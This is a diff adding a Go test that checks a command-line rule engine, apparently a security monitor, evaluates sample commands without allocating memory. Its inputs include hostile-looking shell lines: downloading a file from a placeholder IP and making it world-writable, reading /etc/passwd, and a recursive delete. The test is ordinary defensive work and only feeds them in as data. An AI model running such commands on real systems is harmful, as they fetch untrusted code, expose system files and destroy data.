@@ -49,3 +49,17 @@ func TestCommandAndEffectBlocks(t *testing.T) {
 		}
 	}
 }
+
+// TestBlocksAllocateNothing: lines that no rule matches, and those that the
+// index admits, cost no memory.
+func TestBlocksAllocateNothing(t *testing.T) {
+	snap := NewSnapshot(mustCompile(t, generatedLineRules(200)), nil, testNow)
+	sc := NewScratch()
+	for _, line := range []string{"id", "wget -O /tmp/x http://192.0.2.1/x; chmod 777 /tmp/x", "cat /etc/passwd | grep x > f", "cd /tmp && rm -rf ~/.x"} {
+		ev := commandEvent(line)
+		snap.Evaluate(nil, ev, testNow, sc)
+		if n := testing.AllocsPerRun(100, func() { snap.Evaluate(nil, ev, testNow, sc) }); n > 0 {
+			t.Errorf("%s: %v allocations", line, n)
+		}
+	}
+}
